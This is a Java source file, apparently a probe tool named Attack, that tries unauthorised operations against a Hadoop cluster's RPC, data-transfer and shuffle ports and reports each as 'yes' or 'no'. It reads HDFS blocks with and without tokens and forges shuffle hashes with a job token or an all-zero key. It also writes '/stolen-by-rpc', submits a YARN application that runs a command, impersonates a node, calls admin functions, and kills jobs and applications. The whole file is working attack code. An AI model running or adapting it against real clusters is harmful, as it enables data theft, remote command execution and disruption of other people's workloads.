// Tries Hadoop's RPC, data and shuffle ports as the user who owns the cluster, by name: a line for
// each try, "HOST:PORT yes|no WHAT".  java -cp CLASSES:HOME/path.jar Attack KNOWN.json HOST:PORT...

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.DataOutputStream;
import java.io.File;
import java.net.HttpURLConnection;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import javax.net.SocketFactory;
import org.apache.hadoop.conf.Configuration;
import org.apache.hadoop.hdfs.DFSClient;
import org.apache.hadoop.hdfs.DFSUtilClient;
import org.apache.hadoop.hdfs.protocol.ExtendedBlock;
import org.apache.hadoop.hdfs.protocol.HdfsFileStatus;
import org.apache.hadoop.hdfs.protocol.LocatedBlock;
import org.apache.hadoop.hdfs.protocol.datatransfer.Sender;
import org.apache.hadoop.hdfs.protocol.proto.DataTransferProtos.BlockOpResponseProto;
import org.apache.hadoop.hdfs.protocol.proto.DataTransferProtos.Status;
import org.apache.hadoop.hdfs.protocolPB.PBHelperClient;
import org.apache.hadoop.hdfs.security.token.block.BlockTokenIdentifier;
import org.apache.hadoop.hdfs.server.datanode.CachingStrategy;
import org.apache.hadoop.ipc.ProtobufRpcEngine2;
import org.apache.hadoop.ipc.RPC;
import org.apache.hadoop.mapreduce.TypeConverter;
import org.apache.hadoop.mapreduce.security.SecureShuffleUtils;
import org.apache.hadoop.mapreduce.security.TokenCache;
import org.apache.hadoop.mapreduce.security.token.JobTokenSecretManager;
import org.apache.hadoop.mapreduce.v2.api.MRClientProtocol;
import org.apache.hadoop.mapreduce.v2.api.impl.pb.client.HSClientProtocolPBClientImpl;
import org.apache.hadoop.mapreduce.v2.api.impl.pb.client.MRClientProtocolPBClientImpl;
import org.apache.hadoop.mapreduce.v2.api.protocolrecords.GetJobReportRequest;
import org.apache.hadoop.mapreduce.v2.api.protocolrecords.KillJobRequest;
import org.apache.hadoop.mapreduce.v2.api.records.JobId;
import org.apache.hadoop.security.Credentials;
import org.apache.hadoop.security.UserGroupInformation;
import org.apache.hadoop.security.token.Token;
import org.apache.hadoop.tools.protocolPB.GetUserMappingsProtocolClientSideTranslatorPB;
import org.apache.hadoop.tools.protocolPB.GetUserMappingsProtocolPB;
import org.apache.hadoop.yarn.api.ApplicationClientProtocol;
import org.apache.hadoop.yarn.api.impl.pb.client.ApplicationClientProtocolPBClientImpl;
import org.apache.hadoop.yarn.api.protocolrecords.GetApplicationsRequest;
import org.apache.hadoop.yarn.api.protocolrecords.GetNewApplicationRequest;
import org.apache.hadoop.yarn.api.protocolrecords.KillApplicationRequest;
import org.apache.hadoop.yarn.api.protocolrecords.SubmitApplicationRequest;
import org.apache.hadoop.yarn.api.records.ApplicationId;
import org.apache.hadoop.yarn.api.records.ApplicationSubmissionContext;
import org.apache.hadoop.yarn.api.records.ContainerLaunchContext;
import org.apache.hadoop.yarn.api.records.NodeId;
import org.apache.hadoop.yarn.api.records.Priority;
import org.apache.hadoop.yarn.api.records.Resource;
import org.apache.hadoop.yarn.server.api.impl.pb.client.ResourceManagerAdministrationProtocolPBClientImpl;
import org.apache.hadoop.yarn.server.api.impl.pb.client.ResourceTrackerPBClientImpl;
import org.apache.hadoop.yarn.server.api.protocolrecords.NodeHeartbeatRequest;
import org.apache.hadoop.yarn.server.api.protocolrecords.RefreshQueuesRequest;
import org.apache.hadoop.yarn.server.api.records.NodeHealthStatus;
import org.apache.hadoop.yarn.server.api.records.NodeStatus;
import org.apache.hadoop.yarn.util.Records;

public class Attack {
  interface Try {
    void run() throws Exception;
  }

  static final Configuration CONF = new Configuration();
  static JsonNode known;
  static ApplicationId victim;
  static JobId job;

  final String place;
  final InetSocketAddress address;

  Attack(String place) {
    this.place = place;
    int colon = place.lastIndexOf(':');
    int port = Integer.parseInt(place.substring(colon + 1));
    address = new InetSocketAddress(place.substring(0, colon), port);
  }

  public static void main(String[] arguments) throws Exception {
    known = new ObjectMapper().readTree(new File(arguments[0]));
    for (String name :
        List.of(
            "ipc.client.connect.max.retries", "ipc.client.connect.max.retries.on.timeouts",
            "ipc.client.connect.max.retries.on.sasl", "dfs.client.max.block.acquire.failures")) {
      CONF.setInt(name, 0);
    }
    CONF.setInt("ipc.client.connect.timeout", 3000);
    CONF.setInt("ipc.client.rpc-timeout.ms", 15000);
    String application = known.get("application").asText();
    victim = ApplicationId.fromString(application);
    job =
        TypeConverter.toYarn(
            org.apache.hadoop.mapreduce.JobID.forName(application.replace("application", "job")));
    List<Attack> attacks = new ArrayList<>();
    for (String place : List.of(arguments).subList(1, arguments.length)) {
      attacks.add(new Attack(place));
    }
    all(attacks, Attack::readAndSubmit);
    all(attacks, Attack::killJob);
    all(attacks, Attack::killApplication);
    System.exit(0);
  }

  interface Step {
    void run(Attack attack) throws Exception;
  }

  /** One step at all ports. */
  static void all(List<Attack> attacks, Step step) throws Exception {
    ExecutorService pool = Executors.newFixedThreadPool(8);
    List<Callable<Void>> steps = new ArrayList<>();
    for (Attack attack : attacks) {
      steps.add(
          () -> {
            step.run(attack);
            return null;
          });
    }
    for (var done : pool.invokeAll(steps)) {
      done.get();
    }
    pool.shutdown();
  }

  void attempt(String what, Try tried) {
    String line;
    try {
      tried.run();
      line = place + " yes " + what;
    } catch (Throwable refused) {
      line = place + " no " + what;
      if (System.getenv("ATTACK_TRACE") != null) {
        line += ": " + refused.toString().split("\n")[0];
      }
    }
    System.out.println(line);
  }

  void readAndSubmit() throws Exception {
    String file = known.get("file").asText();
    attempt("data port: read a block", () -> readBlock(false));
    attempt("data port: read a block by its token", () -> readBlock(true));
    attempt("shuffle: read a map's output by the job's token", this::readMapOutput);
    attempt("rpc: list /", () -> client().listPaths("/", HdfsFileStatus.EMPTY_NAME).getClass());
    attempt("rpc: read a file", () -> client().open(file).read());
    attempt("rpc: write", () -> client().mkdirs("/stolen-by-rpc", null, true));
    attempt(
        "rpc: read a DataNode",
        () ->
            DFSUtilClient.createClientDatanodeProtocolProxy(
                    address, UserGroupInformation.getCurrentUser(), CONF,
                    SocketFactory.getDefault())
                .getDatanodeInfo());
    attempt("rpc: read a user's groups", this::readGroups);
    ApplicationClientProtocol yarn = new ApplicationClientProtocolPBClientImpl(1, address, CONF);
    attempt("rpc: list jobs", () -> yarn.getApplications(GetApplicationsRequest.newInstance()));
    attempt("rpc: submit", () -> submit(yarn));
    attempt(
        "rpc: administer",
        () ->
            new ResourceManagerAdministrationProtocolPBClientImpl(1, address, CONF)
                .refreshQueues(RefreshQueuesRequest.newInstance()));
    attempt("rpc: be a node", this::beNode);
    GetJobReportRequest report = Records.newRecord(GetJobReportRequest.class);
    report.setJobId(job);
    MRClientProtocol master = new MRClientProtocolPBClientImpl(1, address, CONF);
    attempt("rpc: read a job", () -> master.getJobReport(report));
    MRClientProtocol history = new HSClientProtocolPBClientImpl(1, address, CONF);
    attempt("rpc: read the history", () -> history.getJobReport(report));
  }

  void killJob() throws Exception {
    KillJobRequest kill = Records.newRecord(KillJobRequest.class);
    kill.setJobId(job);
    MRClientProtocol jobs = new MRClientProtocolPBClientImpl(1, address, CONF);
    attempt("rpc: kill a job", () -> jobs.killJob(kill));
  }

  void killApplication() throws Exception {
    ApplicationClientProtocol yarn = new ApplicationClientProtocolPBClientImpl(1, address, CONF);
    attempt(
        "rpc: kill", () -> yarn.forceKillApplication(KillApplicationRequest.newInstance(victim)));
  }

  DFSClient client() throws Exception {
    return new DFSClient(address, CONF);
  }

  void readGroups() throws Exception {
    RPC.setProtocolEngine(CONF, GetUserMappingsProtocolPB.class, ProtobufRpcEngine2.class);
    GetUserMappingsProtocolPB proxy =
        RPC.getProxy(
            GetUserMappingsProtocolPB.class, RPC.getProtocolVersion(GetUserMappingsProtocolPB.class),
            address, UserGroupInformation.getCurrentUser(), CONF, SocketFactory.getDefault(), 15000);
    new GetUserMappingsProtocolClientSideTranslatorPB(proxy).getGroupsForUser("hadoop");
  }

  /** A heartbeat, to be told to register: a node is given tasks of others. */
  void beNode() throws Exception {
    NodeStatus status =
        NodeStatus.newInstance(
            NodeId.newInstance("worker1", 1), 0, List.of(), List.of(),
            NodeHealthStatus.newInstance(true, "", 0), null, null, null);
    new ResourceTrackerPBClientImpl(1, address, CONF)
        .nodeHeartbeat(NodeHeartbeatRequest.newInstance(status, null, null, null));
  }

  /** An application whose master would run a command of ours. */
  static void submit(ApplicationClientProtocol yarn) throws Exception {
    ApplicationId id =
        yarn.getNewApplication(GetNewApplicationRequest.newInstance()).getApplicationId();
    ContainerLaunchContext command =
        ContainerLaunchContext.newInstance(
            Map.of(), Map.of(), List.of("id"), Map.of(), null, Map.of());
    ApplicationSubmissionContext context =
        ApplicationSubmissionContext.newInstance(
            id, "stolen", "default", Priority.newInstance(0), command, false, true, 1,
            Resource.newInstance(64, 1));
    yarn.submitApplication(SubmitApplicationRequest.newInstance(context));
  }

  /** A block, with the token of the NameNode if it gives one, or without. */
  void readBlock(boolean asks) throws Exception {
    JsonNode told = known.get("block");
    ExtendedBlock block =
        new ExtendedBlock(
            told.get("pool").asText(), told.get("id").asLong(), 1, told.get("generation").asLong());
    Token<BlockTokenIdentifier> token = new Token<>();
    if (asks) {
      String[] namenode = known.get("namenode").asText().split(":");
      InetSocketAddress there =
          new InetSocketAddress(namenode[0], Integer.parseInt(namenode[1]));
      LocatedBlock located =
          new DFSClient(there, CONF).getLocatedBlocks(known.get("file").asText(), 0).get(0);
      block = located.getBlock();
      token = located.getBlockToken();
    }
    try (Socket socket = new Socket()) {
      socket.connect(address, 3000);
      socket.setSoTimeout(15000);
      DataOutputStream output = new DataOutputStream(socket.getOutputStream());
      new Sender(output)
          .readBlock(block, token, "attack", 0, 1, true, CachingStrategy.newDefaultStrategy());
      output.flush();
      BlockOpResponseProto answer =
          BlockOpResponseProto.parseFrom(PBHelperClient.vintPrefixed(socket.getInputStream()));
      if (answer.getStatus() != Status.SUCCESS) {
        throw new IllegalStateException(answer.getStatus() + " " + answer.getMessage());
      }
    }
  }

  /** As a reduce does, by the job's token where its file is known; else by a key of zeros. */
  void readMapOutput() throws Exception {
    byte[] key = new byte[64];
    String tokens = known.get("tokens").asText();
    if (!tokens.isEmpty()) {
      Credentials credentials = Credentials.readTokenStorageFile(new File(tokens), CONF);
      key = TokenCache.getShuffleSecretKey(credentials);
      if (key == null) {
        key = TokenCache.getJobToken(credentials).getPassword();
      }
    }
    String name = known.get("application").asText().replace("application", "job");
    String map = "attempt" + name.substring(3) + "_m_000000_0";
    URL url = new URL("http://" + place + "/mapOutput?job=" + name + "&reduce=0&map=" + map);
    HttpURLConnection connection = (HttpURLConnection) url.openConnection();
    connection.setConnectTimeout(3000);
    connection.setReadTimeout(15000);
    connection.setRequestProperty("name", "mapreduce");
    connection.setRequestProperty("version", "1.0.0");
    connection.setRequestProperty(
        "UrlHash",
        SecureShuffleUtils.hashFromString(
            SecureShuffleUtils.buildMsgFrom(url), JobTokenSecretManager.createSecretKey(key)));
    if (connection.getResponseCode() != 200 || connection.getInputStream().read() < 0) {
      throw new IllegalStateException("refused: " + connection.getResponseCode());
    }
    if (connection.getHeaderField("ReplyHash") == null) {
      throw new IllegalStateException("no shuffle service");
    }
  }
}
